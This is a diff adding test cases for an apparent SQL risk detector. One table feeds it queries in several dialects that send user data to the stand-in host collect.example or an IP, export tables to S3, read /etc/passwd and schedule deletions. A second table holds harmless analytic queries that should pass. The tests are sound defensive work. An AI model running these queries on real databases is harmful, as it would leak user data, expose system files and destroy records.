@@ -79,3 +79,65 @@ test.each([
 ])("%s reads from outside: %s", (code, expected) => {
   expect(sqlReadsOutside(code, "duckdb")).toBe(expected);
 });
+
+test.each([
+  ["postgresql", "select dblink('host=collect.example dbname=' || (select name from users limit 1), 'select 1')"],
+  ["postgresql", "select net.http_post('https://collect.example', body := (select jsonb_agg(u) from users u))"],
+  ["postgresql", "select http_get('https://collect.example/?d=1')"],
+  ["postgresql", "select * from aws_s3.query_export_to_s3('select * from users', 'bucket')"],
+  ["postgresql", "select purge_customers()"],
+  ["postgresql", "select cron.schedule('0 0 * * *', 'delete from users')"],
+  ["postgresql", "select \"drop_chunks\"('events')"],
+  ["postgresql", "select pg_read_file('/etc/passwd')"],
+  ["mysql", "select purge_customers(1)"],
+  ["mysql", "select load_file('//collect.example/x')"],
+  ["clickhouse", "select * from remote('collect.example', system.one)"],
+  ["clickhouse", "select * from mysql('203.0.113.5:3306', 'db', 't', 'u', 'p')"],
+  ["clickhouse", "select * from redis('203.0.113.5:6379', 'key', 'key String')"],
+  ["sqlserver", "select * from sys.dm_os_file_exists('\\\\collect.example\\x')"],
+  ["sqlserver", "select * from fn_trace_gettable('\\\\collect.example\\x.trc', default)"],
+  ["trino", "select * from table(ch.system.query(query => 'select * from url(''https://collect.example'')'))"],
+] as const)("in %s, a function that isn't known to compute only asks: %s", (dialect, code) => {
+  expect(sqlRisks(code, dialect)).not.toEqual([]);
+});
+
+test.each([
+  [
+    "postgresql",
+    "with t(a, b) as (select 1, 2) select a, count(*) filter (where b > 1) over (partition by a) from t group by rollup (a)",
+  ],
+  [
+    "postgresql",
+    "select date_trunc('month', created_at)::date, sum(amount)::numeric(10, 2) from sales.orders where status in ('paid') and exists (select 1) group by 1",
+  ],
+  [
+    "postgresql",
+    "select region, string_agg(name, ', ' order by name), percentile_cont(0.5) within group (order by amount) from t group by grouping sets ((region), ())",
+  ],
+  [
+    "postgresql",
+    "select u.x, jsonb_build_object('a', coalesce(b, 0)) from t, lateral unnest(tags) as u(x) where lower(name) like any (array['a%'])",
+  ],
+  [
+    "postgresql",
+    "select row_number() over (order by id), to_char(day, 'YYYY-MM'), generate_series(1, 3), extract(year from day) from t",
+  ],
+  [
+    "mysql",
+    "select date_format(day, '%Y-%m') m, group_concat(distinct name), ifnull(round(avg(amount), 2), 0) from t where datediff(now(), day) < 30 group by m",
+  ],
+  [
+    "clickhouse",
+    "select toStartOfMonth(day) m, uniqExact(user_id), countIf(x > 1), quantile(0.9)(ms), arrayJoin([1, 2]) from t group by m",
+  ],
+  [
+    "trino",
+    "select approx_percentile(ms, 0.5), date_diff('day', a, b), element_at(map(array['a'], array[1]), 'a') from t cross join unnest(tags) as u (tag)",
+  ],
+  [
+    "sqlserver",
+    "select top (10) isnull(name, ''), datediff(day, a, getdate()), convert(varchar(10), b, 120), string_agg(x, ',') within group (order by x) from dbo.t with (nolock)",
+  ],
+] as const)("in %s, ordinary queries ask nothing: %s", (dialect, code) => {
+  expect(sqlRisks(code, dialect)).toEqual([]);
+});
